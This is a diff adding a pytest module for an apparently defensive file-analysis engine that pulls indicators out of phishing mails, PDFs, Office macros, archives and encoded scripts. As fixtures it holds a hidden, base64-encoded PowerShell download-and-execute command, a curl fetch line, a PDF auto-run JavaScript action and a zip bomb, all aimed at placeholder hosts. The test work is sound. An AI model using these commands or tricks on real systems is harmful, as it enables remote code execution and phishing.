@@ -1,0 +1,255 @@
+"""What the analyst reads in files, and where it says that things stand."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+
+import pytest
+from sample_files import EXAMPLES, docx_of, gzip_of, mail_of, pdf_of, tar_of, text_page, zip_of
+
+from secgemini.local.engines.analyst.examine import examine, search_text
+from secgemini.local.engines.analyst.findings import FileReport, Findings
+from secgemini.local.engines.analyst.kinds import Kind
+from secgemini.local.engines.analyst.parts import Budget
+
+
+class Examined:
+    """A report with its indicators, in a form that is easy to compare."""
+
+    def __init__(self, name: str, content: bytes, budget: Budget | None = None) -> None:
+        self.findings = Findings()
+        self.report = examine(name, content, self.findings, budget=budget)
+
+    def places(self, value: str) -> list[str]:
+        return [
+            str(place)
+            for indicators in self.findings.by_kind().values()
+            for indicator in indicators
+            if indicator.value == value
+            for place in indicator.places
+        ]
+
+    def facts(self) -> dict[str, str]:
+        return {fact.name: fact.value for fact in self.report.facts}
+
+
+def example(name: str) -> Examined:
+    return Examined(name, (EXAMPLES / name).read_bytes())
+
+
+def names(report: FileReport) -> list[str]:
+    return [name for inner in report.inner for name in (inner.name, *names(inner))]
+
+
+def test_the_example_mail() -> None:
+    mail = example("phishing.eml")
+    assert mail.facts()["Subject"] == "Invoice 2026-1147 is overdue – please pay today"
+    assert names(mail.report) == ["part 1 (plain)", "part 2 (html)", "invoice.pdf"]
+    assert mail.report.inner[2].sha256 == hashlib.sha256((EXAMPLES / "invoice.pdf").read_bytes()).hexdigest()
+    assert mail.places("https://pay-example.evil.example/terms") == ["phishing.eml › invoice.pdf › page 2, line 4"]
+    assert mail.places("https://cdn.evil.example/update.ps1") == ["phishing.eml › part 1 (plain), line 11"]
+    assert mail.places("bounce@mailer.evil.example") == ["phishing.eml › header Return-Path"]
+    assert mail.places("https://track.evil.example/o.gif?m=finance%40example.com") == [
+        "phishing.eml › part 2 (html) › link, line 7"
+    ]
+    assert mail.report.notes == [
+        "Reply-To is at evil.example, From at northwind.example",
+        "Return-Path is at mailer.evil.example, From at northwind.example",
+        "the receiving server reports failed checks: spf, dmarc",
+    ]
+    assert mail.report.inner[1].notes == ["line 6: a link shows pay.example.com and leads to pay-example.evil.example"]
+
+
+def test_the_example_pdf_and_the_link_behind_its_text() -> None:
+    pdf = example("invoice.pdf")
+    assert (pdf.facts()["pages"], pdf.report.notes) == ("2", [])
+    assert pdf.places("https://pay.example.com/invoice/2026-1147") == ["invoice.pdf › page 1, line 9"]
+    assert pdf.places("https://pay-example.evil.example/invoice/2026-1147?u=finance") == ["invoice.pdf › page 1 › link"]
+
+
+def test_a_pdf_that_acts_when_it_is_opened() -> None:
+    action = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://js.example/'\\))>>"
+    assert Examined("a.pdf", pdf_of([b""], action)).report.notes == ["acts when it is opened: /JavaScript"]
+
+
+def test_a_pdf_has_a_limit_on_pages() -> None:
+    pdf = Examined("a.pdf", pdf_of([text_page(f"host{number}.example") for number in range(203)]))
+    assert pdf.places("host199.example") == ["a.pdf › page 200, line 1"]
+    assert pdf.places("host200.example") == []
+    assert pdf.report.notes == ["only the first 200 of 203 pages were read"]
+
+
+def test_a_damaged_pdf_is_reported_not_raised() -> None:
+    content = (EXAMPLES / "invoice.pdf").read_bytes()
+    assert "could not be read to its end" in Examined("cut.pdf", content[:1500]).report.notes[0]
+
+
+def test_a_message_attached_to_a_message_keeps_its_headers() -> None:
+    from email.message import EmailMessage
+    from email.parser import BytesParser
+    from email.policy import default
+
+    outer = EmailMessage()
+    outer["From"], outer["To"], outer["Subject"] = "o@outer.example", "p@outer.example", "fwd"
+    outer.set_content("see attached")
+    outer.add_attachment(BytesParser(policy=default).parsebytes(mail_of("body", From="i@inner.example")))
+    mail = Examined("outer.eml", outer.as_bytes())
+    assert mail.places("i@inner.example") == ["outer.eml › part 2 (rfc822) › header From"]
+
+
+def test_encoded_headers_and_other_character_sets() -> None:
+    source = (
+        b"From: =?iso-8859-1?q?J=F6rg?= <j@a.example>\nTo: b@b.example\n"
+        b"Subject: =?utf-8?b?R3LDvMOfZQ==?= =?x?q?broken?=\n"
+        b"Content-Type: text/plain; charset=utf-16le\nContent-Transfer-Encoding: base64\n\n"
+        + base64.b64encode("see http://wide.example/ö".encode("utf-16-le"))
+    )
+    mail = Examined("m.eml", source)
+    assert mail.facts()["From"] == "Jörg <j@a.example>"
+    assert mail.facts()["Subject"].startswith("Grüße")
+    assert mail.places("http://wide.example/ö") == ["m.eml › part 1 (plain), line 1"]
+
+
+def test_html_text_keeps_its_lines_and_words_their_parts() -> None:
+    page = Examined(
+        "p.html", b"<html>\n<p\nclass='x'>ev<b>il</b>.example&#46;</p>\n<form action='/a?u=http://f.example'>"
+    )
+    assert page.places("evil.example") == ["p.html, line 3"]
+    assert page.places("http://f.example") == ["p.html › link, line 4"]
+
+
+def test_docx_text_links_and_macros() -> None:
+    content = docx_of(["nothing", "http://ho|st.exam|ple/x"], ["http://link.example/"])
+    document = Examined("a.docx", content)
+    assert document.places("http://host.example/x") == ["a.docx › word/document.xml, line 2"]
+    assert document.places("http://link.example/") == ["a.docx › word/_rels/document.xml.rels"]
+    macros = Examined("a.docx", docx_of(["x"], **{"word__vbaProject.bin": b"\0\1http://macro.example/\0"}))
+    assert macros.report.notes == ["contains macros"]
+    assert macros.places("http://macro.example/") == ["a.docx › word/vbaProject.bin › strings"]
+
+
+def test_archives_in_archives() -> None:
+    inner = zip_of({"deep/notes.txt": b"one\nevil.example\n"})
+    packed = gzip_of(tar_of({"data/inner.zip": inner, "run.sh": b"curl http://sh.example/x\n"}))
+    archive = Examined("backup.tar.gz", packed)
+    assert archive.places("evil.example") == ["backup.tar.gz › backup.tar › data/inner.zip › deep/notes.txt, line 2"]
+    assert archive.places("http://sh.example/x") == ["backup.tar.gz › backup.tar › run.sh, line 1"]
+
+
+def test_names_of_entries_are_searched() -> None:
+    archive = Examined("a.zip", zip_of({"x/9e107d9d372bb6826bd81d3542a419d6.bin": b"\0"}))
+    assert archive.places("9e107d9d372bb6826bd81d3542a419d6") == ["a.zip › entry names, line 1"]
+
+
+def test_an_archive_that_grows_too_much_is_left_out_and_said_so() -> None:
+    bomb = Examined("b.zip", zip_of({"zeros": bytes(20_000_000), "a.txt": b"evil.example"}))
+    assert bomb.report.notes[0].startswith("zeros was left out: it claims to grow")
+    assert bomb.places("evil.example") == ["b.zip › a.txt, line 1"]
+
+
+def test_what_is_nested_too_deeply_is_not_opened() -> None:
+    content = b"deep.example"
+    for _ in range(10):
+        content = zip_of({"n.zip": content})
+    archive = Examined("n.zip", content)
+    assert archive.places("deep.example") == []
+    report = archive.report
+    while report.inner:
+        report = report.inner[0]
+    assert report.notes == ["n.zip was not opened: nested too deeply"]
+
+
+def test_only_so_many_entries_are_opened() -> None:
+    archive = Examined("a.zip", zip_of({f"{number}.txt": b"x" for number in range(1010)}))
+    assert archive.report.notes == ["1000.txt and what follows was left out: too much is inside"]
+
+
+def test_the_size_of_a_negative_tar_entry_does_not_lead_back() -> None:
+    archive = Examined("a.tar", tar_of({"a.txt": b"evil.example"}, {"size": "-1024"}))
+    assert len(archive.report.inner) <= 1
+
+
+def test_text_in_any_encoding() -> None:
+    for encoding in ("utf-8", "utf-16", "utf-16-le", "cp1252"):
+        text = Examined("a.txt", "Grüße\r\nan evil.example\r".encode(encoding))
+        assert text.places("evil.example") == ["a.txt, line 2"]
+
+
+def test_text_beyond_the_limit_is_left_out_and_said_so() -> None:
+    text = Examined("a.txt", b"early.example\n" + b"x\n" * 1000 + b"late.example", Budget(text=1000))
+    assert (text.places("early.example"), text.places("late.example")) == (["a.txt, line 1"], [])
+    assert text.report.notes == ["only the first 1000 characters were read"]
+
+
+def test_strings_of_a_binary() -> None:
+    content = (
+        b"MZ\x90\0\x03\0\0\0" + bytes(60) + b"http://ascii.example/a\0\0" + "http://wide.example/b".encode("utf-16-le")
+    )
+    binary = Examined("a.exe", content)
+    assert binary.places("http://ascii.example/a") == ["a.exe › strings"]
+    assert binary.places("http://wide.example/b") == ["a.exe › strings"]
+
+
+COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://ps.example/a')"
+
+
+@pytest.mark.parametrize("option", ["-e", "-enc", "-EncodedCommand", "/ec", "-EnCoDeDcOmMaNd"])
+def test_encoded_powershell_is_decoded(option: str) -> None:
+    code = base64.b64encode(COMMAND.encode("utf-16-le")).decode()
+    script = Examined("a.cmd", f"@echo off\npowershell.exe -nop -w hidden {option} {code}\n".encode())
+    assert script.places("http://ps.example/a") == ["a.cmd › line 2 › PowerShell command, line 1"]
+    [decoded] = script.report.inner
+    assert (decoded.preview, decoded.label) == (COMMAND, "powershell")
+
+
+def test_base64_in_base64_is_decoded_to_a_bounded_depth() -> None:
+    text = "see http://deep.example/ for more of this"
+    depth_reached = 0
+    for depth in range(1, 10):
+        text = "data: " + base64.b64encode(text.encode()).decode()
+        if Examined("a.txt", text.encode()).places("http://deep.example/"):
+            depth_reached = depth
+    assert depth_reached == 6
+
+
+def test_wrapped_base64_of_a_file_is_read_as_that_file() -> None:
+    wrapped = base64.encodebytes(pdf_of([text_page("see http://pdf.example/")])).decode()
+    text = Examined("a.txt", f"attachment:\n\n{wrapped}\nthe end".encode())
+    assert text.places("http://pdf.example/") == ["a.txt › line 3 › base64 › page 1, line 1"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
+        "ThisIsJustALongIdentifierNameInSomeSourceCode",
+        "/usr/share/locale/some/rather/long/path/name",
+        "A" * 4000,
+    ],
+)
+def test_what_is_no_base64_stays_undecoded(text: str) -> None:
+    assert Examined("a.txt", text.encode()).report.inner == []
+
+
+def test_a_text_that_is_no_file_is_searched_with_its_own_line_numbers() -> None:
+    findings = Findings()
+    search_text("evil.example\nx\n10.0.0.1", "attached logs", findings, lines=[7, 8, 30])
+    lines = {i.value: i.places[0].line for kind in (Kind.DOMAIN, Kind.IPV4) for i in findings.by_kind()[kind]}
+    assert lines == {"evil.example": 7, "10.0.0.1": 30}
+
+
+def test_a_reader_for_a_new_type_needs_only_a_module() -> None:
+    from secgemini.local.engines.analyst.readers import reader_for
+
+    assert {
+        reader_for(label).__name__.rpartition(".")[2] for label in ("pdf", "eml", "html", "docx", "zip", "tar")
+    } == {
+        "pdf",
+        "mail",
+        "html",
+        "office",
+        "archive",
+        "tar",
+    }
+    assert reader_for("never heard of").__name__.endswith(".strings")
